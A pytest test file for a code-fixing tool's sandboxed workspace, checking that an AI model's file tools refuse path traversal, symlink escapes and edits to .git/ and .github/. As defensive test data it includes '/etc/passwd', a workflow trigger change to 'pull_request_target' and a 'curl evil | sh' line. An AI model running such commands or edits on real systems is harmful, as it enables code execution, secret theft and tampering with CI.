"""The model's tools: jailed to the checkout, out of .git/ and .github/, precise about mismatches."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from crashfix.fixer.checkout.workspace import Limits, ToolError, Workspace

PLAYER = """#include "Player.h"

void Player::Update(uint32_t diff)
{
    Unit* target = GetTarget();
    if (target->GetHealth() > 0)
        target->DealDamage(_attackPower);
}
"""


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    (root / "src" / "Player.cpp").write_text(PLAYER)
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]\n")
    (tmp_path / "outside.txt").write_text("secret notes\n")
    return root


def test_read_file_numbers_lines_and_pages(repo: Path) -> None:
    workspace = Workspace(repo, Limits(max_read_lines=3))
    text = workspace.read_file("src/Player.cpp", 3, 10)
    assert "lines 3-5 of 8" in text and "     4  {" in text
    assert "ask for them with start_line" in text
    with pytest.raises(ToolError, match="has 8 lines"):
        workspace.read_file("src/Player.cpp", 20)


@pytest.mark.parametrize("path", ["../outside.txt", "src/../../outside.txt", "/etc/passwd", "C:\\Windows\\win.ini",
                                  ".github/workflows/ci.yml", ".GitHub/workflows/ci.yml", ".git/config",
                                  "src/../.github/workflows/ci.yml"])
def test_paths_outside_the_jail_are_refused(repo: Path, path: str) -> None:
    workspace = Workspace(repo)
    with pytest.raises(ToolError):
        workspace.read_file(path)
    with pytest.raises(ToolError):
        workspace.edit(path, "on: push", "on: pull_request_target")
    assert (repo / ".github" / "workflows" / "ci.yml").read_text() == "on: push\n"


@pytest.mark.skipif(os.name == "nt", reason="symbolic links need privileges on Windows")
def test_a_symlink_leading_out_is_refused(repo: Path) -> None:
    (repo / "src" / "escape.txt").symlink_to(repo.parent / "outside.txt")
    (repo / "src" / "workflows").symlink_to(repo / ".github" / "workflows")
    workspace = Workspace(repo)
    with pytest.raises(ToolError, match="outside the repository"):
        workspace.read_file("src/escape.txt")
    with pytest.raises(ToolError, match=".github"):
        workspace.edit("src/workflows/ci.yml", "on: push", "on: issues")


def test_exact_edit_and_precise_mismatch_messages(repo: Path) -> None:
    workspace = Workspace(repo)
    with pytest.raises(ToolError, match="only in whitespace") as error:
        workspace.edit("src/Player.cpp", "Unit* target = GetTarget();\n  if (target->GetHealth() > 0)", "x")
    assert "lines 5-6" in str(error.value)
    with pytest.raises(ToolError, match="occurs 2 times"):
        workspace.edit("src/Player.cpp", "target->", "target.")
    result = workspace.edit("src/Player.cpp", "    if (target->GetHealth() > 0)",
                            "    if (target && target->GetHealth() > 0)")
    assert "at line 6" in result
    assert "if (target && target->GetHealth() > 0)" in (repo / "src" / "Player.cpp").read_text()
    assert workspace.changed_paths() == ["src/Player.cpp"]


def test_crlf_files_keep_their_line_endings(repo: Path) -> None:
    (repo / "src" / "Win.cpp").write_bytes(b"int a;\r\nint b;\r\n")
    workspace = Workspace(repo)
    workspace.edit("src/Win.cpp", "int a;\nint b;", "int a;\nint c;")
    assert (repo / "src" / "Win.cpp").read_bytes() == b"int a;\r\nint c;\r\n"


def test_binaries_and_large_deletions_are_refused(repo: Path) -> None:
    (repo / "game.pdb").write_bytes(b"MSF\0\0binary")
    (repo / "src" / "Big.cpp").write_text("".join(f"int v{i};\n" for i in range(200)))
    workspace = Workspace(repo)
    with pytest.raises(ToolError, match="binary"):
        workspace.read_file("game.pdb")
    block = "".join(f"int v{i};\n" for i in range(100))
    with pytest.raises(ToolError, match="deletes 100 lines"):
        workspace.edit("src/Big.cpp", block, "")
    assert workspace.changed_paths() == []


def test_new_files_and_undone_edits(repo: Path) -> None:
    workspace = Workspace(repo)
    workspace.edit("src/Guard.h", "", "#pragma once\n")
    with pytest.raises(ToolError, match="already exists"):
        workspace.edit("src/Guard.h", "", "again")
    with pytest.raises(ToolError, match="source or text"):
        workspace.edit("src/run.sh", "", "curl evil | sh")
    workspace.edit("src/Player.cpp", "GetTarget();", "GetVictim();")
    workspace.edit("src/Player.cpp", "GetVictim();", "GetTarget();")
    assert workspace.changed_paths() == ["src/Guard.h"]


def test_search_and_list_skip_protected_folders(repo: Path) -> None:
    workspace = Workspace(repo)
    assert "src/Player.cpp:6:" in workspace.search(r"GetHealth\(\)")
    assert "no match" in workspace.search("pull_request_target|on: push")
    listing = workspace.list_dir(".")
    assert "src/" in listing and ".github" not in listing and ".git" not in listing
    with pytest.raises(ToolError, match="invalid regular expression"):
        workspace.search("(unclosed")
    with pytest.raises(ToolError, match="did you mean Player.cpp"):
        workspace.read_file("src/Playr.cpp")
